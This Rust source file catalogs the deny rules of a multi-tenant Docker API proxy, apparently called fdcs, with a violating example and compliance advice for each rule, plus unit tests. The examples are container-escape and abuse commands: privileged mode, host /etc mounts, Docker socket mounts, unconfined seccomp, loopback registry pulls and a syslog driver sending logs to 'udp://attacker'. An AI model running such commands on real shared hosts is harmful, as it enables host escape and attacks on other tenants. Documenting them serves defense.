//! The rule catalog: for every rule id the engine or `lint` can report, what
//! it guards against, an example that breaks it and how to comply.
//!
//! `fdcs-policy explain RULE_ID` prints these, and `lint --format sarif`
//! describes its rules from them, so a rule id seen in a denial or a CI
//! report always has a page. A test checks every entry is complete and ids
//! are unique.

/// Documentation of one rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RuleDoc {
    /// Stable rule id, as in denials (`ports.ephemeral-only`).
    pub id: &'static str,
    /// One-line title.
    pub title: &'static str,
    /// What the rule guards against, and why it matters in a shared engine.
    pub guards: &'static str,
    /// A command, compose snippet or request that breaks it.
    pub example: &'static str,
    /// What to do instead.
    pub comply: &'static str,
}

/// Every documented rule, engine rules first, then compose checks.
pub fn catalog() -> &'static [RuleDoc] {
    CATALOG
}

/// The documentation of one rule id.
pub fn lookup(id: &str) -> Option<&'static RuleDoc> {
    CATALOG.iter().find(|d| d.id == id)
}

macro_rules! doc {
    ($id:literal, $title:literal, $guards:literal, $example:literal, $comply:literal) => {
        RuleDoc {
            id: $id,
            title: $title,
            guards: $guards,
            example: $example,
            comply: $comply,
        }
    };
}

const CATALOG: &[RuleDoc] = &[
    doc!("route.unknown", "unknown endpoint", "Default deny: a method and path the route table does not know is refused, so a new or undocumented daemon endpoint is never reachable by accident.", "POST /v1.41/plugins/pull?remote=evil/plugin", "Use the Docker commands fdcs supports (containers, networks, volumes, exec, images you may pull); ask the operator if you need another endpoint."),
    doc!("route.ambiguous", "ambiguous path", "Paths the daemon's router could read differently from fdcs (percent-encoded slashes, dot segments, doubled slashes) are refused instead of guessed, closing path-confusion bypasses.", "GET /v1.41/containers/..%2Fother/json", "Send plain, canonical paths as the docker CLI and SDKs do."),
    doc!("route.version", "unsupported API version", "Requests with a `/vX.Y` prefix older or newer than the policy supports are refused: old versions accept legacy body layouts that would dodge the decoder.", "GET /v1.12/containers/json", "Use a client speaking API 1.24 or later (any current docker CLI; set DOCKER_API_VERSION if you pinned an old one)."),
    doc!("decode.malformed", "malformed body", "A body that is not the JSON the endpoint expects cannot be judged, so it is refused rather than forwarded unjudged.", "POST /v1.41/containers/create with body `{\"Image\": \"busybox\",`", "Send a well-formed JSON body; the docker CLI and compose always do."),
    doc!("decode.unknown-field", "unknown field", "A field the engine model does not know is denied by name: passing it through would let a newer daemon feature bypass every rule.", "{\"Image\":\"busybox\",\"HostConfig\":{\"FutureEscape\":true}}", "Remove the field, or ask the operator to upgrade fdcs if your client needs it."),
    doc!("decode.ambiguous", "ambiguous body", "Keys the Go decoder would fold together (case variants, duplicates) are resolved exactly as the daemon does; where fdcs cannot be sure which value wins, it refuses.", "{\"HostConfig\":{\"Privileged\":false,\"privileged\":true}}", "Send each field once, in its documented spelling."),
    doc!("ports.ephemeral-only", "explicit host ports", "A tenant publishing a fixed host port could squat on ports other tenants or the host need; only daemon-assigned ephemeral ports are allowed.", "docker run -p 80:80 nginx   # compose: ports: [\"80:80\"]", "Publish with -P or `-p 80` (compose: `ports: [\"80\"]`) and read the assigned port with `docker port`."),
    doc!("mounts.no-host-path", "host bind mounts", "A bind mount of a host path (Binds, Mounts, or a local volume with o=bind) reads or writes the host file system: the classic container escape.", "docker run -v /etc:/x busybox   # compose: volumes: [\"/etc:/x\"]", "Use a named volume (`-v data:/x`, compose `volumes: [\"data:/x\"]`) and copy files in with `docker cp`."),
    doc!("mounts.volume-driver", "volume driver", "Volume drivers and their options can mount host paths or remote storage outside the tenant's control; only the drivers the policy lists are allowed.", "docker volume create -d local -o type=none -o o=bind -o device=/etc v", "Create volumes with the default `local` driver and no bind options."),
    doc!("privileges.privileged", "privileged mode", "`--privileged` gives the container every capability and every device: full control of the host.", "docker run --privileged busybox   # compose: privileged: true", "Remove privileged mode; if a feature needs one capability, ask the operator to allow it."),
    doc!("privileges.capabilities", "added capabilities", "Added capabilities (SYS_ADMIN, NET_ADMIN, SYS_PTRACE, ...) widen the kernel surface a container can reach; only the policy's list may be added.", "docker run --cap-add SYS_ADMIN busybox   # compose: cap_add: [SYS_ADMIN]", "Drop `--cap-add`/`cap_add`; dropping capabilities (`cap_drop`) is always fine."),
    doc!("privileges.devices", "host devices", "Passing host devices (`/dev/sda`, `/dev/mem`) into a container gives direct hardware and host-data access.", "docker run --device /dev/sda busybox   # compose: devices: [\"/dev/sda\"]", "Remove devices; use volumes for data."),
    doc!("privileges.security-opt", "security options", "`seccomp=unconfined`, `apparmor=unconfined` or `label=disable` switch off the kernel filters that contain a container.", "docker run --security-opt seccomp=unconfined busybox", "Remove the option; `no-new-privileges` is allowed and recommended."),
    doc!("privileges.sysctls", "sysctls", "Namespaced sysctls can still weaken the host network stack or other tenants; none are allowed unless the policy lists them.", "docker run --sysctl net.ipv4.ip_forward=1 busybox", "Remove `--sysctl`/`sysctls`."),
    doc!("privileges.paths", "masked and read-only paths", "Unmasking `/proc` paths (MaskedPaths, ReadonlyPaths, `systempaths=unconfined`) exposes host kernel state.", "docker run --security-opt systempaths=unconfined busybox", "Keep the default masked paths."),
    doc!("privileges.cgroup-parent", "cgroup parent", "A custom cgroup parent moves the container out of the limits the operator set for tenants.", "docker run --cgroup-parent /system.slice busybox", "Remove `--cgroup-parent`/`cgroup_parent`."),
    doc!("privileges.runtime", "runtime override", "Choosing another OCI runtime can pick one with weaker isolation or host access.", "docker run --runtime runc-debug busybox", "Use the daemon's default runtime."),
    doc!("privileges.log-driver", "log driver", "Log drivers can write to host paths or send logs to arbitrary endpoints; only the daemon default (or listed drivers) is allowed.", "docker run --log-driver syslog --log-opt syslog-address=udp://attacker busybox", "Remove `--log-driver`/`logging.driver`."),
    doc!("privileges.oom-score-adj", "OOM-killer protection", "A negative OOM score adjustment makes the host's OOM killer pick other tenants' processes before this container's.", "docker run --oom-score-adj -1000 busybox", "Remove `--oom-score-adj`/`oom_score_adj`, or use a value of 0 or more."),
    doc!("namespaces.no-host", "host namespaces", "Sharing the host's network, pid, ipc, uts, user or cgroup namespace lets a container see and touch host processes and interfaces.", "docker run --net host busybox   # compose: network_mode: host", "Use the tenant's own networks (the default) and the container's own namespaces."),
    doc!("resources.memory", "memory limit", "Without a memory ceiling one tenant can exhaust the host; limits above the tenant's ceiling are refused and a default is injected when absent.", "docker run -m 64g busybox", "Set a memory limit at or below your ceiling (`-m 512m`, compose `mem_limit: 512m`), or none to get the default."),
    doc!("resources.cpu", "CPU limit", "Without a CPU ceiling one tenant can starve the others; above the ceiling is refused, a default is injected when absent.", "docker run --cpus 64 busybox", "Set `--cpus`/`cpus` at or below your ceiling, or none to get the default."),
    doc!("resources.pids", "pids limit", "A fork bomb in one container can exhaust the host's pid table; `PidsLimit` 0 or -1 means unlimited and is treated as absent.", "docker run --pids-limit -1 busybox", "Set `--pids-limit`/`pids_limit` at or below your ceiling, or none to get the default."),
    doc!("bounds.ports", "published and exposed ports", "Every published port is a host port and a `docker-proxy` process outside the container's cgroups (two with IPv6); one create with 100 exposed ports and -P took 200. Ports published per container (each binding entry, ranges counted in full, and what -P publishes of `ExposedPorts`) and ports exposed are bounded by the policy.", "docker run -P --expose 8000-9000 busybox", "Publish only the ports clients must reach (`-p 80`), and reach the rest over the tenant's own network."),
    doc!("bounds.tmpfs", "tmpfs and /dev/shm size", "A tmpfs without `size=` may grow to half the host's RAM. Each tmpfs mount and `/dev/shm` gets a size (injected when absent, under a ceiling), and together they must fit in the container's memory limit. Spellings the kernel reads differently (`size=0`, `%`, octal, hex, `nr_blocks=`, two sizes) are refused.", "docker run -m 128m --tmpfs /x:size=1g busybox", "Give each tmpfs a size that fits (`--tmpfs /x:size=64m`, compose `tmpfs: {size: 64m}`), or raise -m."),
    doc!("volumes.tmpfs", "tmpfs volumes", "A `local` volume of type tmpfs keeps its memory after every container is gone, charged to no container. It needs an `o=size=` under the policy's ceiling (injected when absent), or is refused when the policy allows none.", "docker volume create -o type=tmpfs -o device=tmpfs -o o=size=1g v", "Give it `-o o=size=64m` or less, or use `--tmpfs` on the container."),
    doc!("volumes.anonymous", "anonymous volumes", "A volume the daemon makes for a create (`Config.Volumes`, a lone `/path` in `Binds`, a volume mount without a source, the image's `VOLUME`) would carry no owner label: no tenant could list, count or remove it, and 40 of them stayed after `docker rm`. Each one is mounted explicitly as a volume the daemon creates with the tenant's owner label (listed, counted in `quota.volumes`, removed by `docker rm -v`, `--rm` and `volume prune`); a path the daemon would mount it on but cannot read as one (relative, `/`) is refused.", "docker run -v data busybox   # a relative path: an anonymous volume nowhere", "Mount anonymous volumes on absolute paths (`-v /data`), or name them (`-v data:/data`)."),
    doc!("bounds.logs", "log disk", "`json-file` keeps every log line unless told `max-size`, on the engine's disk. For `json-file` and `local`, `max-size` and `max-file` are injected when absent and bounded; a container that names no log driver gets the policy's driver so that they can be; the daemon's log buffer (`max-buffer-size`) is bounded too.", "docker run --log-opt max-size=1000g busybox", "Use `--log-opt max-size=10m --log-opt max-file=3` or less, or set none to get the defaults."),
    doc!("bounds.cpu-weight", "CPU and block-IO weight", "`CpuShares` and `BlkioWeight` decide who wins under contention: `--cpu-shares 262144` takes about 99.6% of a contended CPU. Both are bounded so that no container gets more than one that sets none.", "docker run --cpu-shares 262144 busybox", "Leave `--cpu-shares` and `--blkio-weight` unset, or set them at or below the ceiling."),
    doc!("bounds.realtime", "realtime CPU", "A realtime task runs before every normal one on its CPU and can starve the host; `CpuRealtimeRuntime`, `CpuRealtimePeriod` and a non-zero `rtprio` ulimit are refused unless the policy allows them.", "docker run --cpu-rt-runtime 950000 --ulimit rtprio=99 busybox", "Drop `--cpu-rt-runtime`, `--cpu-rt-period` and `--ulimit rtprio`."),
    doc!("bounds.healthcheck", "health-check frequency", "Each health check is an exec the daemon spawns; one every millisecond is a process storm run for the tenant. Interval, start interval, timeout and start period have minimums (0 is the engine's default) and retries a maximum; `NONE` is always fine.", "docker run --health-cmd true --health-interval 1ms busybox", "Use `--health-interval 1s` or more (compose `healthcheck: {interval: 30s}`), or leave it unset."),
    doc!("quota.containers", "containers per tenant", "Every container, running or not, holds engine state, a writable layer and log files; one tenant's hundreds would crowd everyone's disk and the daemon's memory. Counted from the engine (the tenant's owner-labelled containers) when a container is created.", "for i in $(seq 100); do docker create busybox; done", "Remove containers you no longer need (`docker rm`, `docker container prune`), or ask the operator for a larger quota."),
    doc!("quota.memory", "memory per tenant", "Each container is capped, but 33 capped containers took 33 GiB of a 23.5 GiB host. The memory limits of a tenant's running, paused and restarting containers must fit its quota, checked at create, start, restart, unpause and update.", "docker run -d -m 1g busybox sleep 1d   # the fifth, with a 4 GiB quota", "Stop or remove a container, use smaller limits (`-m 256m`), or ask the operator for a larger quota."),
    doc!("quota.cpus", "CPUs per tenant", "The CPU limits of a tenant's running containers must fit its quota, so that 33 two-CPU containers cannot claim 66 CPUs of a 2-CPU host.", "docker run -d --cpus 2 busybox sleep 1d   # the third, with a 4-CPU quota", "Stop or remove a container, use a smaller `--cpus`, or ask the operator for a larger quota."),
    doc!("quota.pids", "pids per tenant", "The pids limits of a tenant's running containers must fit its quota: 33 containers at 1,024 pids each exceed the host's `pid_max` of 32,768.", "docker run -d --pids-limit 1024 busybox sleep 1d   # the third, with a 2,048 quota", "Stop or remove a container, use a smaller `--pids-limit`, or ask the operator for a larger quota."),
    doc!("quota.ports", "published ports per tenant", "Each published port is a host port and a `docker-proxy` process; the ports a tenant's running containers publish must fit its quota.", "docker run -d -P nginx   # again and again", "Stop containers you do not need, publish fewer ports, or ask the operator for a larger quota."),
    doc!("quota.volumes", "volumes per tenant", "Volumes outlive containers and hold disk; the tenant's owner-labelled volumes are counted when one is created.", "for i in $(seq 100); do docker volume create v$i; done", "Remove volumes you no longer need (`docker volume rm`, `docker volume prune`), or ask the operator for a larger quota."),
    doc!("quota.networks", "networks per tenant", "Each network takes a subnet out of the daemon's shared address pools (31 /20s for everybody by default); the tenant's networks, its default one included, are counted when one is created.", "for i in $(seq 10); do docker network create n$i; done", "Remove networks you no longer need (`docker network rm`), share one network between services, or ask the operator for a larger quota."),
    doc!("images.allowed", "allowed images", "Only images matching the policy's patterns may run, so tenants run vetted software only.", "docker run evil/miner", "Use an image from the allowed list (`fdcs-policy check` shows the patterns in the denial)."),
    doc!("images.build", "image builds", "`docker build` runs arbitrary build steps on the shared daemon and can fetch remote contexts; refused unless the policy allows builds.", "docker build -t x .   # compose: build: .", "Build in CI and pull the image from an allowed registry."),
    doc!("images.pull", "image pull", "Pulling stores images on the shared daemon; only the references the policy allows may be pulled, so tenants cannot bring in unvetted software or fill the disk.", "docker pull evil/miner", "Pull an image the policy allows, or ask the operator to add it."),
    doc!("images.push", "image push", "Pushing from the shared daemon could exfiltrate other tenants' images.", "docker push registry.example/x", "Push from your own build environment."),
    doc!("images.registry", "allowed registries", "The daemon contacts a registry from the host's network and follows its redirects and auth realms to any URL; only registries the operator listed may be contacted, so a tenant cannot make the host reach its internal services or a metadata endpoint. IP literals in any spelling, localhost and trailing dots count only when listed exactly.", "docker pull 127.0.0.1:5000/x   # or 2130706433:5000/x, [::1]:5000/x", "Use an image from a listed registry (the denial names them), or ask the operator to add your registry to rules.images.registries or your tenant's limits.registries."),
    doc!("images.credentials", "registry credentials", "X-Registry-Auth and X-Registry-Config carry credentials and identity tokens the daemon sends on; they are decoded and judged like a body, and may only name the registry the request goes to.", "docker pull busybox with X-Registry-Auth {\"identitytoken\":\"x\",\"serveraddress\":\"evil.example\"}", "Log in to the registry you pull from (docker login HOST) and let the CLI send its credentials."),
    doc!("images.reserved", "fdcs's image records", "fdcs records which tenant pulled a private image as a tag under the reserved registry `fdcs.invalid`; naming it directly could forge or read another tenant's record.", "docker run fdcs.invalid/beta/reg.example/app:1", "Name the image as you pulled it."),
    doc!("images.reference", "image references", "An image name the engine's reference grammar would not read as fdcs reads it cannot be judged, so it is refused.", "docker pull 'Busybox:latest'", "Name images as `name[:tag]` or `name@digest`, lowercase."),
    doc!("images.private", "private images", "An image from a registry the policy does not share exists only for the tenants that pulled it; fdcs must be able to record the pull (a name too long for a tag cannot be).", "docker pull reg.example/<a very long name>:1", "Pull by a shorter name, or ask the operator to share the registry."),
    doc!("images.manage", "image management", "Images are shared by all tenants: tag, commit, import, load, save and delete affect everyone. An image prune (and, without builds, a build-cache prune) never reaches the engine: fdcs answers it with the daemon's report of nothing removed, since nothing it would remove is the tenant's, so `docker system prune` completes.", "docker rmi busybox", "Ask the operator; tenants only pull and use images."),
    doc!("exec.privileged", "privileged exec", "`docker exec --privileged` gives a process full capabilities inside an otherwise confined container.", "docker exec --privileged web sh", "Exec without `--privileged`."),
    doc!("system.admin", "daemon administration", "Swarm init/join, plugins, daemon-wide prune and similar endpoints change the engine for every tenant.", "docker swarm init", "Ask the operator."),
    doc!("system.session", "sessions and gRPC", "`/session` and `/grpc` open raw streams (BuildKit) the proxy cannot judge.", "DOCKER_BUILDKIT=1 docker build .", "Use classic builds only where allowed, or build elsewhere."),
    doc!("tenancy.reserved-label", "reserved labels", "Ownership lives in engine-side labels only fdcs writes; a tenant setting, changing or filtering on them could claim another tenant's resources.", "docker run --label fdcs.tenant=other busybox", "Use your own label names; never the `fdcs.` prefix."),
    doc!("tenancy.filter", "filters on reserved labels", "A list filter on ownership labels could reveal or widen what a tenant sees.", "docker ps --filter label=fdcs.tenant=other", "Filter on your own labels or names."),
    doc!("tenancy.name", "resource names", "Names are scoped per tenant (`<tenant>_<name>` on the engine); a name the engine would reject, or that could not be scoped injectively, is refused before anything is created.", "docker run --name '../web' busybox", "Use 2 to 200 characters from [a-zA-Z0-9_.-], starting with a letter or digit; fdcs scopes the name for you."),
    doc!(
        "tenancy.not-found",
        "not owned (reported as not found)",
        "A reference to a container, network or volume the tenant does not own is answered exactly as the daemon answers a missing one, so other tenants' resources cannot be discovered. `lint` reports such a denial under this id (the engine's denial carries no rule id, on purpose).",
        "services:\n  app:\n    image: busybox\n    network_mode: container:someone_elses_db",
        "Reference only resources of your own project (services, networks and volumes it declares) or that you created yourself."
    ),
    doc!("body.too-large", "body too large", "Bodies are read whole (bounded) to be judged; an oversized body is refused so memory stays bounded.", "a 100 MiB container create body", "Send normal-sized requests; large data belongs in volumes or images."),
    doc!("auth.missing", "missing credentials", "Every request must say which tenant sends it (`X-Auth-Token`, `X-Auth-TenantId`).", "docker ps with no HttpHeaders in ~/.docker/config.json", "Add `\"HttpHeaders\": {\"X-Auth-Token\": \"...\", \"X-Auth-TenantId\": \"...\"}` to ~/.docker/config.json."),
    doc!("auth.invalid", "invalid credentials", "A token the identity service rejects, or one not valid for the claimed tenant, is refused.", "an expired token", "Get a fresh token for your tenant."),
    doc!("auth.unavailable", "identity service unavailable", "Fail closed: when the identity service cannot be reached, nothing is forwarded.", "any request while Keystone is down", "Retry later; tell the operator if it persists."),
    doc!("upstream.unavailable", "engine unavailable", "Fail closed: when the engine (or an ownership lookup) fails, the request is refused, never forwarded unjudged.", "any request while dockerd is down", "Retry later; tell the operator if it persists."),
    doc!("compose.privileged", "privileged service", "A privileged service has every capability and device: a host escape (KICS: Privileged Containers Enabled).", "services:\n  web:\n    privileged: true", "Remove `privileged`; list only the capabilities you need in `cap_add` (and ask the operator to allow them)."),
    doc!("compose.docker-socket", "Docker socket mounted", "Mounting the Docker socket gives the container control of the daemon, i.e. of the host and every tenant (KICS: Docker Socket Mounted In Container).", "volumes:\n  - /var/run/docker.sock:/var/run/docker.sock", "Do not mount the socket; talk to fdcs over TCP with your own credentials if you must drive Docker."),
    doc!("compose.sensitive-host-path", "sensitive host directory mounted", "Mounting `/`, `/etc`, `/proc`, `/sys`, `/dev`, `/root`, `/var/lib/docker`, `/boot`... exposes or lets the service change the host (KICS: Volume Has Sensitive Host Directory).", "volumes:\n  - /etc:/host-etc:ro", "Use a named volume and copy what you need into it."),
    doc!("compose.host-path", "host path mounted", "Any host bind mount ties the service to one machine's file system and is refused by the default policy.", "volumes:\n  - ./data:/data", "Use a named volume: `volumes: [\"data:/data\"]` with `data: {}` under top-level `volumes:`."),
    doc!("compose.host-network", "host network", "`network_mode: host` shares the host network stack: the service sees host interfaces and can bind any host port (KICS: Host Namespace is Shared).", "network_mode: host", "Use compose networks (the default)."),
    doc!("compose.host-pid", "host pid namespace", "`pid: host` shows host processes and allows signalling them.", "pid: host", "Remove `pid`."),
    doc!("compose.host-ipc", "host ipc namespace", "`ipc: host` shares host shared memory and semaphores.", "ipc: host", "Remove `ipc` or use `ipc: shareable` between your own services."),
    doc!("compose.host-userns", "host user namespace", "`userns_mode: host` disables user-namespace remapping: root in the container is root on the host.", "userns_mode: host", "Remove `userns_mode`."),
    doc!("compose.host-uts", "host uts namespace", "`uts: host` lets the service change the host's hostname.", "uts: host", "Remove `uts`; set `hostname` instead."),
    doc!("compose.seccomp-unconfined", "seccomp unconfined", "`seccomp:unconfined` removes the system-call filter (KICS: Seccomp Profile Is Not Configured).", "security_opt: [\"seccomp:unconfined\"]", "Remove the option (the default profile applies) or point to a custom profile the operator allows."),
    doc!("compose.apparmor-unconfined", "AppArmor unconfined", "`apparmor:unconfined` removes the AppArmor profile (KICS: AppArmor Profile Not Set).", "security_opt: [\"apparmor:unconfined\"]", "Remove the option."),
    doc!("compose.cap-add", "capabilities added", "Every added capability widens the kernel surface (KICS: Container Capabilities Unrestricted).", "cap_add: [NET_ADMIN]", "Remove `cap_add`; prefer `cap_drop: [ALL]` and add back only what is allowed."),
    doc!("compose.cap-add-dangerous", "dangerous capability added", "SYS_ADMIN, ALL, SYS_MODULE, SYS_PTRACE, SYS_RAWIO, DAC_READ_SEARCH and similar capabilities are near-equivalent to privileged mode.", "cap_add: [SYS_ADMIN]", "Remove the capability; there is almost always another way."),
    doc!("compose.host-port", "explicit host port", "A fixed host port collides with other tenants and is refused at runtime (KICS: Container Traffic Not Bound To Host Interface / Host Port Not Specified).", "ports: [\"8080:80\"]", "Publish only the container port: `ports: [\"80\"]`, and read the assigned port with `docker compose port`."),
    doc!("compose.memory-unset", "memory limit unset", "Without `mem_limit` (or `deploy.resources.limits.memory`) the service gets the tenant default; set it to make the budget explicit (KICS: Memory Not Limited).", "services:\n  web:\n    image: nginx", "Add `mem_limit: 256m` (or `deploy.resources.limits.memory`)."),
    doc!("compose.cpus-unset", "CPU limit unset", "Without `cpus` (or `deploy.resources.limits.cpus`) the service gets the tenant default (KICS: Cpus Not Limited).", "services:\n  web:\n    image: nginx", "Add `cpus: 0.5` (or `deploy.resources.limits.cpus`)."),
    doc!("compose.pids-unset", "pids limit unset", "Without `pids_limit` a fork bomb is bounded only by the tenant default (KICS: Pids Limit Not Set).", "services:\n  web:\n    image: nginx", "Add `pids_limit: 100` (or `deploy.resources.limits.pids`)."),
    doc!("compose.no-new-privileges", "no-new-privileges unset", "Without `no-new-privileges`, setuid binaries can raise privileges inside the container (KICS: No New Privileges Not Set).", "services:\n  web:\n    image: nginx", "Add `security_opt: [\"no-new-privileges:true\"]`."),
    doc!("compose.devices", "host devices", "Devices give direct access to host hardware (KICS: Devices Mounted).", "devices: [\"/dev/fuse\"]", "Remove `devices`."),
    doc!("compose.image-latest", "unpinned image", "An image without a tag or with `latest` changes under you; CI results stop meaning anything (KICS: Image Version Not Explicit).", "image: nginx", "Pin a tag or digest: `image: nginx:1.27.2`."),
    doc!("compose.healthcheck-unset", "healthcheck unset", "Without a healthcheck, dependants start against a service that is not ready and failures go unnoticed (KICS: Healthcheck Not Set).", "services:\n  web:\n    image: nginx", "Add a `healthcheck:` with a `test:`."),
    doc!("compose.unresolved-variable", "unresolved variable in a sensitive field", "Compose replaces an unset variable with an empty string; in a host path, a port or a privilege that silently changes meaning (`${DATA}/x:/x` becomes `/x:/x`, a host bind of `/x`).", "volumes: [\"${DATA_DIR}/db:/var/lib/db\"]   # DATA_DIR unset", "Set the variable (environment, `.env` or `--env-file`), give it a safe default `${DATA_DIR:-dbdata}`, or require it with `${DATA_DIR:?set DATA_DIR}`."),
    doc!("compose.required-variable", "required variable unset", "`${VAR:?message}` with the variable unset: compose refuses to start the project.", "image: \"app:${TAG:?set TAG}\"", "Set the variable in the environment, `.env` or `--env-file`."),
    doc!("compose.unset-variable", "unset variable", "An unset variable becomes an empty string; harmless in most fields but usually a mistake.", "environment: [\"MODE=${MODE}\"]", "Set it, or give a default with `${MODE:-prod}`."),
    doc!("compose.invalid-interpolation", "invalid interpolation", "A `${` without its `}` or an invalid variable name makes compose refuse the file.", "image: \"app:${TAG\"", "Close the brace, or write `$$` for a literal dollar sign."),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_entry_is_complete_and_unique() {
        let mut seen = std::collections::BTreeSet::new();
        for d in catalog() {
            assert!(seen.insert(d.id), "duplicate {}", d.id);
            for (what, s) in [
                ("title", d.title),
                ("guards", d.guards),
                ("example", d.example),
                ("comply", d.comply),
            ] {
                assert!(!s.trim().is_empty(), "{} has no {what}", d.id);
            }
        }
    }

    #[test]
    fn the_core_rule_ids_are_all_documented() {
        for id in [
            "route.unknown",
            "route.ambiguous",
            "route.version",
            "decode.malformed",
            "decode.unknown-field",
            "decode.ambiguous",
            "ports.ephemeral-only",
            "mounts.no-host-path",
            "mounts.volume-driver",
            "privileges.privileged",
            "privileges.capabilities",
            "privileges.devices",
            "privileges.security-opt",
            "privileges.sysctls",
            "privileges.paths",
            "privileges.cgroup-parent",
            "privileges.runtime",
            "privileges.log-driver",
            "privileges.oom-score-adj",
            "namespaces.no-host",
            "resources.memory",
            "resources.cpu",
            "resources.pids",
            "bounds.ports",
            "bounds.tmpfs",
            "bounds.logs",
            "bounds.cpu-weight",
            "bounds.realtime",
            "bounds.healthcheck",
            "volumes.tmpfs",
            "volumes.anonymous",
            "quota.containers",
            "quota.memory",
            "quota.cpus",
            "quota.pids",
            "quota.ports",
            "quota.volumes",
            "quota.networks",
            "images.allowed",
            "images.pull",
            "images.build",
            "images.push",
            "images.manage",
            "images.registry",
            "images.credentials",
            "images.reserved",
            "images.reference",
            "images.private",
            "exec.privileged",
            "system.admin",
            "system.session",
            "tenancy.reserved-label",
            "tenancy.filter",
            "tenancy.name",
            "body.too-large",
            "auth.missing",
            "auth.invalid",
            "auth.unavailable",
            "upstream.unavailable",
        ] {
            assert!(lookup(id).is_some(), "{id} missing");
        }
        assert!(lookup("no.such-rule").is_none());
    }
}
